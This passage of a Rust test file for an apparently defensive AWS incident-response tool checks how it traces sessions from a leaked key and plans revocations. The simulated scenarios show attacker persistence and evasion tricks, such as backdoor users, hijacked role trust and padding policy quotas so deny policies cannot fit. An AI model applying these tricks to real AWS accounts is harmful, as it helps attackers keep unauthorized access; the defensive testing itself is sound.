    assert!(inline.contains(&"backdoor"), "{p:#}");
    let text = serde_json::to_string(&p["actions"]).unwrap();
    assert!(!text.contains("user-name tmp") && !text.contains("user/tmp"), "{p:#}");
    assert_eq!(p["attacker_users"][0]["renamed_from"], json!(["tmp"]), "{p:#}");
    let (code, v) = verify(&d, &p);
    assert_eq!(code, 0, "{v:#}");
    // The console session of the renamed user is the attacker's too.
    assert!(tainted_ids(&d, LEAKED).iter().any(|id| id.starts_with(&console.key)));

    // The plan under the old name (as it was made before renames were followed) cuts nothing
    // of the renamed user's: IAM answers NoSuchEntity to each of its commands.
    let mut m = p.clone();
    let old = serde_json::to_string(&p["actions"]).unwrap().replace("Evil", "tmp");
    m["actions"] = serde_json::from_str(&old).unwrap();
    let (code, v) = verify(&d, &m);
    assert_ne!(code, 0, "{v:#}");
    assert!(v["keys_left_active"].as_array().unwrap().contains(&json!(key.key)), "{v:#}");

    // DeleteUser before the console session's policy comes off fails.
    let mut m = p.clone();
    m["actions"].as_array_mut().unwrap().retain(|a| a["policy_name"] != "backdoor");
    let (_, v) = verify(&d, &m);
    let notes = serde_json::to_string(&v["notes"]).unwrap();
    assert!(notes.contains("would fail (DeleteConflict): inline policy backdoor"), "{v:#}");
}

/// A user the attacker made and an administrator deleted is gone: a user made again under its
/// name is someone else's, whose key the plan must not deactivate and whom it must not deny or
/// delete, and the attacker's calls on the old one are no review items naming the name. If
/// the attacker makes the name again, it is the attacker's again.
#[test]
fn a_user_deleted_since_the_attacker_made_it_is_not_the_next_user_of_its_name() {
    let admin_key = "AKIAI44QH8DHBEXAMPLE";
    let build = |again: bool| {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
        let admin = s.user_key(MAIN, "admin", admin_key);
        s.create_user(&leaked, T0, "bob");
        let old = s.create_access_key(&leaked, T0 + 10, Some("bob"));
        s.attach_user_policy(
            &leaked,
            T0 + 20,
            "bob",
            "arn:aws:iam::aws:policy/AdministratorAccess",
        );
        let del_key = json!({"userName": "bob", "accessKeyId": old.key});
        s.call(&admin, T0 + 100, "iam.amazonaws.com", "DeleteAccessKey", del_key);
        let detach =
            json!({"userName": "bob", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"});
        s.call(&admin, T0 + 110, "iam.amazonaws.com", "DetachUserPolicy", detach);
        s.call(&admin, T0 + 120, "iam.amazonaws.com", "DeleteUser", json!({"userName": "bob"}));
        let maker = if again { &leaked } else { &admin };
        s.create_user(maker, T0 + 200, "bob");
        let new = s.create_access_key(&admin, T0 + 210, Some("bob"));
        let new = s.user_key(MAIN, "bob", &new.key);
        s.call(&new, T0 + 220, "s3.amazonaws.com", "ListBuckets", Value::Null);
        (write(&s, &[]), new.key)
    };
    let (d, new) = build(false);
    let p = plan(&d, LEAKED, "strict");
    assert!(!deactivated(&p).contains(&new.as_str()), "{p:#}");
    let bob = format!("arn:aws:iam::{MAIN}:user/bob");
    assert!(!principals(&p, "put_user_policy").contains(&bob), "{p:#}");
    assert!(actions(&p, "delete_user").is_empty(), "{p:#}");
    let reviews = serde_json::to_string(&actions(&p, "review")).unwrap();
    assert!(!reviews.contains("user/bob"), "{reviews}");
    assert!(p["attacker_users"][0]["deleted"].as_str().unwrap().starts_with("DeleteUser"), "{p:#}");
    assert!(!tainted_ids(&d, LEAKED).contains(&new), "the new bob's key is not the attacker's");
    let (code, v) = verify(&d, &p);
    assert_eq!(code, 0, "{v:#}");
    // Made again by the attacker: the attacker's again, key and all.
    let (d, new) = build(true);
    let p = plan(&d, LEAKED, "strict");
    assert!(deactivated(&p).contains(&new.as_str()), "{p:#}");
    assert!(principals(&p, "put_user_policy").contains(&bob), "{p:#}");
    assert_eq!(actions(&p, "delete_user").len(), 1, "{p:#}");
}

/// So many instances launched with one role that the deny naming each one's sessions (F9, F21)
/// is over the 10,240 characters all of the role's inline policies may hold (F8): IAM would
/// refuse it inline (LimitExceeded). The plan cuts it across managed policies instead
/// ([`a_deny_over_what_one_managed_policy_holds_is_cut_across_several`]); a plan that puts it
/// inline whole (by hand) is a command IAM refuses for `verify`, not an OK.
#[test]
fn a_deny_over_the_roles_whole_inline_budget_is_never_counted_as_applied() {
    let (s, _, role) = launched(240);
    let d = write(&s, &[]);
    let (code, p, err) =
        run(&["plan", "--key", LEAKED, "--strategy", "strict", "--effective-at", CUT], &d);
    assert_eq!(code, 0, "{err}");
    assert!(actions(&p, "put_role_policy").is_empty(), "{p:#}");
    assert_eq!(verify(&d, &p).0, 0);
    // By hand: the parts put back together as one inline deny.
    let mut statements: Vec<Value> = Vec::new();
    for m in actions(&p, "create_policy") {
        for st in m["policy_document"]["Statement"].as_array().unwrap() {
            match statements.iter_mut().find(|s| s["Sid"] == st["Sid"]) {
                Some(s) => {
                    let more =
                        st["Condition"]["StringLike"]["aws:userid"].as_array().unwrap().clone();
                    s["Condition"]["StringLike"]["aws:userid"].as_array_mut().unwrap().extend(more);
                }
                None => statements.push(st.clone()),
            }
        }
    }
    let doc = json!({"Version": "2012-10-17", "Statement": statements});
    let text = serde_json::to_string(&doc).unwrap();
    let put = json!({
        "order": 2, "type": "put_role_policy", "account_id": MAIN, "principal_arn": role,
        "policy_name": "TrailhoundRevokeOlderSessions", "policy_document": doc,
        "command": format!("aws iam put-role-policy --role-name AppRole --policy-name TrailhoundRevokeOlderSessions --policy-document '{text}'"),
        "reason": "by hand",
    });
    let mut whole = p.clone();
    let acts = whole["actions"].as_array_mut().unwrap();
    acts.retain(|a| a["type"] != "create_policy" && a["type"] != "attach_role_policy");
    acts.push(put);
    let (code, v) = verify(&d, &whole);
    assert_eq!(code, 1, "{v:#}");
    assert!(v["command_problems"].to_string().contains("LimitExceeded"), "{v:#}");
}

/// A role whose trust policy the attacker set is the attacker's to assume from then on, until
/// it is deleted: a role made again under its name by someone else (a new role id) is another
/// role, whose sessions are not tainted. If the attacker sets the new role's trust policy
/// too, its sessions from then on are the attacker's again.
#[test]
fn a_role_deleted_since_the_attacker_set_its_trust_is_not_the_next_role_of_its_name() {
    let admin_key = "AKIAI44QH8DHBEXAMPLE";
    let role = format!("arn:aws:iam::{MAIN}:role/ExtAudit");
    let build = |again: bool| {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
        let admin = s.user_key(MAIN, "admin", admin_key);
        let create = json!({"roleName": "ExtAudit", "assumeRolePolicyDocument": "{}"});
        s.call(&leaked, T0, "iam.amazonaws.com", "CreateRole", create.clone());
        let old = s.function_session(&role, "audit-export", T0 + 60, 3600);
        s.call(&old, T0 + 70, "s3.amazonaws.com", "ListBuckets", Value::Null);
        s.call(
            &admin,
            T0 + 120,
            "iam.amazonaws.com",
            "DeleteRole",
            json!({"roleName": "ExtAudit"}),
        );
        s.call(&admin, T0 + 130, "iam.amazonaws.com", "CreateRole", create.clone());
        if again {
            let trust = json!({"roleName": "ExtAudit", "policyDocument": "{}"});
            s.call(&leaked, T0 + 140, "iam.amazonaws.com", "UpdateAssumeRolePolicy", trust);
        }
        let new = s.function_session(&role, "audit-export", T0 + 200, 3600);
        s.call(&new, T0 + 210, "s3.amazonaws.com", "ListBuckets", Value::Null);
        (write(&s, &[]), old.node_id(), new.node_id())
    };
    let (d, old, new) = build(false);
    let tainted = tainted_ids(&d, LEAKED);
    assert!(tainted.contains(&old), "{tainted:?}");
    assert!(!tainted.contains(&new), "the new role's session is not the attacker's: {tainted:?}");
    // Nor does a review item send the responder to delete the role that holds the name now.
    let p = plan(&d, LEAKED, "strict");
    let reviews = serde_json::to_string(&actions(&p, "review")).unwrap();
    assert!(!reviews.contains("delete-role"), "{reviews}");
    assert!(p["notes"].to_string().contains("the role is gone since"), "{:#}", p["notes"]);
    let (d, _, new) = build(true);
    assert!(tainted_ids(&d, LEAKED).contains(&new), "set again by the attacker");
}

/// The attacker fills a role's inline budget (F8) and its quota of ten managed policies: the
/// plan's deny fits neither way, stays inline with a review item, and IAM will refuse it
/// (LimitExceeded). The plan must count the role's tainted sessions as not covered (exit 1),
/// as `verify` does.
#[test]
fn a_deny_that_fits_neither_inline_nor_managed_leaves_its_sessions_not_covered() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let admin = format!("arn:aws:iam::{MAIN}:role/AdminRole");
    let hop = s.assume_role(&leaked, T0 + 20, &admin, "a", 7200);
    s.call(&hop, T0 + 30, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let put = json!({"roleName": "AdminRole", "policyName": "pad", "policyDocument": padded_policy(10100)});
    s.call(&leaked, T0 + 40, "iam.amazonaws.com", "PutRolePolicy", put);
    for i in 0..10 {
        let attach = json!({"roleName": "AdminRole", "policyArn": format!("arn:aws:iam::{MAIN}:policy/p{i}")});
        s.call(&leaked, T0 + 50 + i, "iam.amazonaws.com", "AttachRolePolicy", attach);
    }
    let d = write(&s, &[]);
    let (code, p, err) =
        run(&["plan", "--key", LEAKED, "--strategy", "strict", "--effective-at", CUT], &d);
    assert_eq!(code, 1, "{err}");
    assert!(principals(&p, "put_role_policy").contains(&admin), "{p:#}");
    assert_eq!(p["summary"]["uncovered_sessions"], 1, "{:#}", p["summary"]);
    assert!(p["notes"].to_string().contains("IAM refuses it (LimitExceeded)"), "{:#}", p["notes"]);
    let (code, v) = verify(&d, &p);
    assert_eq!(code, 1, "{v:#}");
}

/// A role's deny naming its instances one by one (an attacker who launched hundreds, F21) may
/// be over what one managed policy holds (6,144 characters, F8), where the attacker's inline
/// policy leaves it no inline room, or over the whole inline budget (10,240) by itself. The
/// plan cuts its `aws:userid` list across as many managed policies as it takes, each created
/// and attached: every session is covered, and `verify` agrees; without one of the parts, the
/// instances it names are not.
#[test]
fn a_deny_over_what_one_managed_policy_holds_is_cut_across_several() {
    for (instances, pad) in [(170, Some(4000)), (300, None)] {
        let (mut s, leaked, _) = launched(instances);
        if let Some(pad) = pad {
            let put = json!({"roleName": "AppRole", "policyName": "pad", "policyDocument": padded_policy(pad)});
            s.call(&leaked, T0 + 40, "iam.amazonaws.com", "PutRolePolicy", put);
        }
        let d = write(&s, &[]);
        let (code, p, err) =
            run(&["plan", "--key", LEAKED, "--strategy", "strict", "--effective-at", CUT], &d);
        assert_eq!(code, 0, "{instances}: {err}");
        let made = actions(&p, "create_policy");
        let attached = actions(&p, "attach_role_policy");
        assert!(made.len() >= 2 && made.len() == attached.len(), "{instances}: {p:#}");
        for m in &made {
            let size = m["policy_size"].as_u64().unwrap();
            assert!(size <= 6144, "{instances}: {size}");
        }
        assert!(actions(&p, "put_role_policy").is_empty(), "{p:#}");
        assert!(p["summary"]["uncovered_sessions"].is_null(), "{:#}", p["summary"]);
        assert_eq!(p["summary"]["covered_sessions"], instances, "{:#}", p["summary"]);
        let (code, v) = verify(&d, &p);
        assert_eq!(code, 0, "{instances}: {v:#}");
        let last = attached.last().unwrap()["policy_arn"].clone();
        let mut without = p.clone();
        without["actions"]
            .as_array_mut()
            .unwrap()
            .retain(|a| !(a["type"] == "attach_role_policy" && a["policy_arn"] == last));
        let (code, v) = verify(&d, &without);
        assert_eq!(code, 1, "{instances}: {v:#}");
    }
}

/// Issuing calls logged without their response (some converted exports drop
/// `responseElements`): the session each made must still be cut. A role session never used in
/// the logs is counted as the call tells it (no key) and its role denied; `GetSessionToken` and
/// `GetFederationToken` sessions are found from their use, as role sessions are; a session whose
/// calls carry a `creationDate` seconds off the call is linked too, so that the user it made is
/// the attacker's.
#[test]
fn a_session_made_by_a_call_logged_without_its_response_is_still_cut() {
    let admin = format!("arn:aws:iam::{MAIN}:role/AdminRole");
    // Never used: only the call tells the session.
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    s.assume_role_unanswered(&leaked, T0 + 20, &admin, "quiet", 43_200);
    let d = write(&s, &[]);
    let p = plan(&d, LEAKED, "strict");
    assert!(principals(&p, "put_role_policy").contains(&admin), "{p:#}");
    assert_eq!(p["summary"]["covered_sessions"], 1, "{:#}", p["summary"]);
    let (code, v) = verify(&d, &p);
    assert_eq!(code, 0, "{v:#}");
    // Without the deny, verify finds the session alive and uncut.
    let mut without = p.clone();
    without["actions"].as_array_mut().unwrap().retain(|a| a["type"] != "put_role_policy");
    let (code, v) = verify(&d, &without);
    assert_eq!(code, 1, "{v:#}");
    assert!(v["not_covered"].to_string().contains("no-key-logged@"), "{v:#}");

    // GetSessionToken and GetFederationToken without their response, each session used.
    for federated in [false, true] {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
        let session = if federated {
            s.get_federation_token(&leaked, T0 + 20, "vendor", 129_600)
        } else {
            s.get_session_token(&leaked, T0 + 20, 129_600)
        };
        s.drop_last_response();
        s.call(&session, T0 + 260, "s3.amazonaws.com", "ListBuckets", Value::Null);
        let d = write(&s, &[]);
        assert!(tainted_ids(&d, LEAKED).contains(&session.node_id()), "federated: {federated}");
        let p = plan(&d, LEAKED, "strict");
        let user = format!("arn:aws:iam::{MAIN}:user/ci-deployer");
        assert!(principals(&p, "put_user_policy").contains(&user), "{p:#}");
        assert_eq!(verify(&d, &p).0, 0);
    }

    // Used, with a creationDate three seconds after the call: the user it made is removed.
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let mut hop = s.assume_role_unanswered(&leaked, T0 + 20, &admin, "ci", 43_200);
    hop.issued_at = Some(T0 + 23);
    s.create_user(&hop, T0 + 60, "backdoor");
    let d = write(&s, &[]);
    assert!(tainted_ids(&d, LEAKED).contains(&hop.node_id()));
    let p = plan(&d, LEAKED, "strict");
    assert!(!actions(&p, "delete_user").is_empty(), "{p:#}");
    assert!(principals(&p, "put_role_policy").contains(&admin), "{p:#}");
    assert_eq!(verify(&d, &p).0, 0);
}

/// IAM names a role or user without regard to case: `Admin` and `admin` are one role, and a
/// put of one policy name on either replaces the other. Sessions that spell their role two ways
/// get one deny covering both, and `verify` judges a second put under the other spelling as
/// replacing the first. A user the attacker's calls name `bob`, whose own calls say `BOB`, is
/// one user: one deny-all, which alone leaves room for it and cuts the key the attacker made.
#[test]
fn one_role_or_user_spelled_in_two_cases_is_one_principal() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let upper =
        s.assume_role(&leaked, T0 + 20, &format!("arn:aws:iam::{MAIN}:role/Admin"), "s1", 3600);
    let lower =
        s.assume_role(&leaked, T0 + 30, &format!("arn:aws:iam::{MAIN}:role/admin"), "s2", 3600);
    s.call(&upper, T0 + 40, "s3.amazonaws.com", "ListBuckets", Value::Null);
    s.call(&lower, T0 + 50, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let d = write(&s, &[]);
    let p = plan(&d, LEAKED, "surgical");
    let puts = actions(&p, "put_role_policy");
    assert_eq!(puts.len(), 1, "{p:#}");
    assert_eq!(puts[0]["covers"].as_array().unwrap().len(), 2, "{:#}", puts[0]);
    assert_eq!(verify(&d, &p).0, 0);
    // A second put of the same policy name on the other spelling, naming s2 only, replaces
    // the first in IAM: s1 is no longer cut.
    let mut two = p.clone();
    let mut other = puts[0].clone();
    other["principal_arn"] = json!(format!("arn:aws:iam::{MAIN}:role/admin"));
    let mut doc = other["policy_document"].clone();
    let ids = &mut doc["Statement"][0]["Condition"]["StringLike"]["aws:userid"];
    let s1 = ids[0].as_str().unwrap().to_string();
    assert!(s1.ends_with(":s1"), "{s1}");
    *ids = json!([ids[1].clone()]);
    other["policy_document"] = doc;
    let command = other["command"].as_str().unwrap();
    let command = command
        .replace("--role-name Admin ", "--role-name admin ")
        .replace(&format!("\"{s1}\","), "");
    other["command"] = json!(command);
    other["order"] = json!(p["actions"].as_array().unwrap().len() + 1);
    two["actions"].as_array_mut().unwrap().push(other);
    let (code, v) = verify(&d, &two);
    assert_eq!(code, 1, "{v:#}");
    assert!(v["not_covered"].to_string().contains(&upper.node_id()), "{v:#}");

    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let pad =
        json!({"userName": "bob", "policyName": "pad", "policyDocument": padded_policy(1740)});
    s.call(&leaked, T0 + 10, "iam.amazonaws.com", "PutUserPolicy", pad);
    s.update_login_profile(&leaked, T0 + 60, "bob");
    s.create_access_key_unanswered(&leaked, T0 + 90, Some("bob"));
    let console = s.console_login(MAIN, T0 + 120, "BOB");
    s.call(&console, T0 + 130, "iam.amazonaws.com", "ListUsers", Value::Null);
    let d = write(&s, &[]);
    let p = plan(&d, LEAKED, "strict");
    let puts = actions(&p, "put_user_policy");
    assert_eq!(puts.len(), 1, "{p:#}");
    assert_eq!(puts[0]["policy_name"], "TrailhoundDenyAll", "{p:#}");
    let (code, v) = verify(&d, &p);
    assert_eq!(code, 0, "{v:#}");
}

/// A session the logs show working minutes after its stated `expiration` (a clock off by less
/// than the skew the expiry check allows) is alive until that call at least: a cut-off between
/// the two must still deny it, and `verify` must not call it expired.
#[test]
fn a_session_used_after_its_stated_end_is_alive_until_that_use() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let admin = format!("arn:aws:iam::{MAIN}:role/AdminRole");
    let hop = s.assume_role(&leaked, T0 + 60, &admin, "ci", 900);
    s.create_user(&hop, T0 + 1200, "backdoor");
    let d = write(&s, &[]);
    let cut = "2024-03-11T10:18:00Z";
    let (code, p, err) =
        run(&["plan", "--key", LEAKED, "--strategy", "strict", "--effective-at", cut], &d);
    assert_eq!(code, 0, "{err}");
    assert!(principals(&p, "put_role_policy").contains(&admin), "{p:#}");
    assert_eq!(p["summary"]["expired_sessions"], 0, "{:#}", p["summary"]);
    let (code, v) = verify(&d, &p);
    assert_eq!(code, 0, "{v:#}");
    assert!(v["expired"].as_array().unwrap().is_empty(), "{v:#}");
}

/// Rewrites every record of the trail in `d` into `partition` and `region` (`arn:aws:` to
/// `arn:PARTITION:`, `us-east-1` to `REGION`), as the same incident would be logged there.
fn into_partition(d: &TempDir, partition: &str, region: &str) {
    use std::io::Write;
    for f in files_under(&d.path().join("trail")) {
        let mut raw = Vec::new();
        trailhound::ingest::decompress::gunzip_into(&std::fs::read(&f).unwrap(), &mut raw, 1 << 30)
            .unwrap();
        let text = String::from_utf8(raw).unwrap();
        let text =
            text.replace("arn:aws:", &format!("arn:{partition}:")).replace("us-east-1", region);
        let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        enc.write_all(text.as_bytes()).unwrap();
        std::fs::write(&f, enc.finish().unwrap()).unwrap();
    }
}

/// In aws-cn (or aws-us-gov) no principal or policy is `arn:aws:`: the ARNs the plan builds
/// where the evidence names none (a user known only from the attacker's calls, the managed
/// policy its deny is moved to when no inline room is left, F8) are in the account's own
/// partition, or the attach is refused and the user's key stays active. `verify` checks each
/// ARN of the plan against the partition the trail shows for its account: a plan whose
/// policy and principal agree with each other in `aws` fails there.
#[test]
fn the_arns_a_plan_builds_are_in_the_partition_of_their_account() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "leaky", LEAKED);
    let put =
        json!({"userName": "bob", "policyName": "pad", "policyDocument": padded_policy(1900)});
    s.call(&leaked, T0 + 10, "iam.amazonaws.com", "PutUserPolicy", put);
    s.update_login_profile(&leaked, T0 + 60, "bob");
    s.create_access_key_unanswered(&leaked, T0 + 90, Some("bob"));
    let d = write(&s, &[]);
    into_partition(&d, "aws-cn", "cn-north-1");
    let p = plan(&d, LEAKED, "strict");
    let made = actions(&p, "create_policy");
    assert_eq!(made.len(), 1, "{p:#}");
    let policy = format!("arn:aws-cn:iam::{MAIN}:policy/TrailhoundDenyAll-bob");
    assert_eq!(made[0]["policy_arn"], policy.as_str(), "{:#}", made[0]);
    let attach = actions(&p, "attach_user_policy");
    assert_eq!(attach.len(), 1, "{p:#}");
    assert_eq!(attach[0]["policy_arn"], policy.as_str());
    assert_eq!(attach[0]["principal_arn"], format!("arn:aws-cn:iam::{MAIN}:user/bob").as_str());
    let every: Vec<&str> = p["actions"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|a| a["principal_arn"].as_str())
        .collect();
    assert!(every.iter().all(|a| a.starts_with("arn:aws-cn:")), "{every:?}");
    let (code, v) = verify(&d, &p);
    assert_eq!(code, 0, "{v:#}");

    // The same plan with its policy and user in `aws` (as it was written before): they agree
    // with each other, but not with the account's ARNs in the trail.
    let text = serde_json::to_string(&p).unwrap().replace("arn:aws-cn:", "arn:aws:");
    let (code, v) = verify(&d, &serde_json::from_str(&text).unwrap());
    assert_eq!(code, 1, "{v:#}");
    assert!(v["command_problems"].to_string().contains("partition aws"), "{v:#}");
}

/// Replaces `from`'s key with `to`'s in every record written so far, and in `from`: as if STS
/// had given both sessions one key id (F16), or a record naming `to`'s key were planted.
fn same_key(s: &mut Scenario, from: &mut Cred, to: &Cred) {
    let (old, new) = (from.key.clone(), to.key.clone());
    s.edit_records(|_, r| {
        *r = serde_json::from_str(&r.to_string().replace(&old, &new)).unwrap();
    });
    from.key = new;
}

/// Two issuing records of one key id in one second (F16: key ids are not unique; or a record
/// planted in the trail). Of one principal, they are one session that lives to the later end
/// either states: a copy saying it ended sooner does not make a live session "expired". Of two
/// principals, they are two sessions, each denied as its own role's and each given the calls
/// that name it, whichever record comes first.
#[test]
fn two_issuing_records_of_one_key_and_second_never_hide_a_live_session() {
    let admin = format!("arn:aws:iam::{MAIN}:role/Admin");
    let deploy = format!("arn:aws:iam::{MAIN}:role/Deploy");
    let cut_without = |p: &Value, arn: &str| {
        let mut m = p.clone();
        m["actions"].as_array_mut().unwrap().retain(|a| a["principal_arn"] != arn);
        m
    };

    // The first record says the session lasts 15 minutes; the second, 12 hours.
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let mut short = s.assume_role(&leaked, T0 + 20, &admin, "x", 900);
    let long = s.assume_role(&leaked, T0 + 20, &admin, "x", 43_200);
    same_key(&mut s, &mut short, &long);
    s.call(&long, T0 + 300, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let d = write(&s, &[]);
    let p = plan(&d, LEAKED, "strict");
    assert!(principals(&p, "put_role_policy").contains(&admin), "{p:#}");
    assert_eq!(p["summary"]["covered_sessions"], 1, "{:#}", p["summary"]);
    assert_eq!(verify(&d, &p).0, 0);
    assert_eq!(verify(&d, &cut_without(&p, &admin)).0, 1);

    // Two roles under one key id and second, each session used: both are cut.
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let mut y = s.assume_role(&leaked, T0 + 20, &deploy, "y", 43_200);
    let x = s.assume_role(&leaked, T0 + 20, &admin, "x", 43_200);
    same_key(&mut s, &mut y, &x);
    s.call(&x, T0 + 300, "s3.amazonaws.com", "ListBuckets", Value::Null);
    s.call(&y, T0 + 310, "s3.amazonaws.com", "ListBuckets", Value::Null);
    s.call(&y, T0 + 320, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let d = write(&s, &[]);
    let p = plan(&d, LEAKED, "strict");
    let denied = principals(&p, "put_role_policy");
    assert!(denied.contains(&admin) && denied.contains(&deploy), "{p:#}");
    assert_eq!(p["summary"]["covered_sessions"], 2, "{:#}", p["summary"]);
    assert_eq!(verify(&d, &p).0, 0);
    for role in [&admin, &deploy] {
        let (code, v) = verify(&d, &cut_without(&p, role));
        assert_eq!(code, 1, "{role}: {v:#}");
    }
    // Each session has the calls that name it.
    let (code, v, err) = run(&["sessions", "--key", LEAKED, "--format", "json"], &d);
    assert_eq!(code, 0, "{err}");
    let calls = |role: &str| {
        v["nodes"]
            .as_array()
            .unwrap()
            .iter()
            .find(|n| n["principal_arn"].as_str().is_some_and(|a| a.contains(role)))
            .map(|n| n["events"].as_u64().unwrap())
    };
    assert_eq!(
        (calls("assumed-role/Admin/"), calls("assumed-role/Deploy/")),
        (Some(1), Some(2)),
        "{v:#}"
    );
    assert!(v.to_string().contains("issued twice in one second"), "{v:#}");

    // The second principal's record logged twice, the first copy with a sooner end: the
    // twin lives to the later one too.
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let bob = s.user_key(MAIN, "bob", "AKIAI44QH8DHBEXAMPLE");
    let mut theirs = s.assume_role(&bob, T0 + 20, &deploy, "y", 43_200);
    let mut short = s.assume_role(&leaked, T0 + 20, &admin, "x", 900);
    let long = s.assume_role(&leaked, T0 + 20, &admin, "x", 43_200);
    same_key(&mut s, &mut theirs, &long);
    same_key(&mut s, &mut short, &long);
    s.call(&long, T0 + 300, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let d = write(&s, &[]);
    let p = plan(&d, LEAKED, "strict");
    assert!(principals(&p, "put_role_policy").contains(&admin), "{p:#}");
    assert_eq!(verify(&d, &p).0, 0);
    assert_eq!(verify(&d, &cut_without(&p, &admin)).0, 1);
}

/// IAM names may start with `-` (`[\w+=,.@-]+`): `-svc`, `--ops`. The AWS CLI reads a word
/// that starts with `-` after an option as an option of its own and refuses the command, so
/// the plan joins such a value to its option (`--user-name=-svc`), and `verify` refuses the
/// command written the other way, which would do nothing.
#[test]
fn names_that_start_with_a_dash_are_joined_to_their_option() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    s.create_user(&leaked, T0 + 10, "-svc");
    let key = s.create_access_key(&leaked, T0 + 20, Some("-svc"));
    s.call(&key, T0 + 30, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let ops =
        s.assume_role(&leaked, T0 + 40, &format!("arn:aws:iam::{MAIN}:role/--ops"), "o", 43_200);
    s.call(&ops, T0 + 50, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let d = write(&s, &[]);
    let p = plan(&d, LEAKED, "strict");
    let commands: Vec<&str> =
        p["actions"].as_array().unwrap().iter().filter_map(|a| a["command"].as_str()).collect();
    // One shell word each (quoted, as a word with `=` is).
    let joined =
        |c: &str| c.contains(" '--user-name=-svc' ") || c.contains(" '--role-name=--ops' ");
    assert!(commands.iter().any(|c| c.contains("update-access-key") && joined(c)), "{commands:#?}");
    assert!(commands.iter().any(|c| c.contains("put-role-policy") && joined(c)), "{commands:#?}");
    assert!(
        !commands.iter().any(|c| c.contains("-name -") || c.contains("-name '-")),
        "{commands:#?}"
    );
    assert_eq!(verify(&d, &p).0, 0);
    // The rollback the script prints (as comments) joins them too.
    let script = d.path().join("plan.sh");
    let o = bin()
        .args(["plan", "--no-progress", "--key", LEAKED, "--effective-at", CUT, "-o"])
        .arg(d.path().join("plan-out.json"))
        .arg("--script")
        .arg(&script)
        .arg(d.path().join("trail"))
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    let text = std::fs::read_to_string(&script).unwrap();
    assert!(text.contains("delete-role-policy '--role-name=--ops'"), "{text}");
    assert!(!text.contains("-name '-"), "{text}");
    // The same plan with the name as a word of its own.
    let text = serde_json::to_string(&p)
        .unwrap()
        .replace("'--user-name=-svc'", "--user-name -svc")
        .replace("'--role-name=--ops'", "--role-name --ops");
    let (code, v) = verify(&d, &serde_json::from_str(&text).unwrap());
    assert_eq!(code, 1, "{v:#}");
    assert!(v["command_problems"].as_array().unwrap().len() >= 2, "{v:#}");
}

/// IAM refuses a policy whose name is not `[\w+=,.@-]{1,128}`, or one of whose statements has
/// a `Sid` other than ASCII letters and digits (or the `Sid` of another statement): the put
/// fails and denies nothing. `verify` counts such a hand-edited deny as a command problem, not
/// as covering its sessions.
#[test]
fn a_deny_iam_would_refuse_for_its_name_or_sid_covers_nothing() {
    let (s, _, _) = two_roles();
    let d = write(&s, &[]);
    let p = plan(&d, LEAKED, "strict");
    assert_eq!(verify(&d, &p).0, 0);
    type Edit = fn(&mut Value);
    let edits: [(&str, Edit); 4] = [
        ("name with a space", |a| {
            let name = a["policy_name"].as_str().unwrap().to_string();
            let spaced = "Trailhound Revoke";
            a["command"] =
                a["command"].as_str().unwrap().replace(&name, &format!("'{spaced}'")).into();
            a["policy_name"] = spaced.into();
        }),
        ("sid with a space", |a| sid(a, json!("Trailhound Revoke"))),
        ("numeric sid", |a| sid(a, json!(7))),
        ("two statements of one sid", |a| {
            let st = a["policy_document"]["Statement"][0].clone();
            a["policy_document"]["Statement"].as_array_mut().unwrap().push(st);
            refresh(a);
        }),
    ];
    fn refresh(a: &mut Value) {
        let doc = serde_json::to_string(&a["policy_document"]).unwrap();
        let cmd = a["command"].as_str().unwrap();
        let at = cmd.find("--policy-document ").unwrap() + "--policy-document ".len();
        a["command"] = format!("{}'{}'", &cmd[..at], doc.replace('\'', "'\\''")).into();
    }
    fn sid(a: &mut Value, to: Value) {
        a["policy_document"]["Statement"][0]["Sid"] = to;
        refresh(a);
    }
    for (what, edit) in edits {
        let mut m = p.clone();
        let put = m["actions"]
            .as_array_mut()
            .unwrap()
            .iter_mut()
            .find(|a| a["type"] == "put_role_policy")
            .unwrap();
        edit(put);
        let (code, v) = verify(&d, &m);
        assert_eq!(code, 1, "{what}: {v:#}");
        let problems = v["command_problems"].to_string();
        assert!(
            problems.contains("IAM refuses") || problems.contains("refuses the policy"),
            "{what}: {problems}"
        );
    }
}

/// The leaked key assumes a role in an account whose logs are not in the trail; a principal of
/// that account the logs cannot name (a user the attacker made there, say) then assumes a role
/// back in the logged account, and the session calls from the attacker's address. Nothing
/// links it to the key, so it is not tainted, but `blast` signals it and the plan asks for a
/// review: not an OK in silence. The same session from another address is not named.
#[test]
fn a_session_issued_from_an_unlogged_account_at_the_attackers_address_is_a_review_item() {
    for same_address in [true, false] {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
        s.assume_role(&leaked, T0 + 10, &format!("arn:aws:iam::{SECOND}:role/Bridge"), "br", 3600);
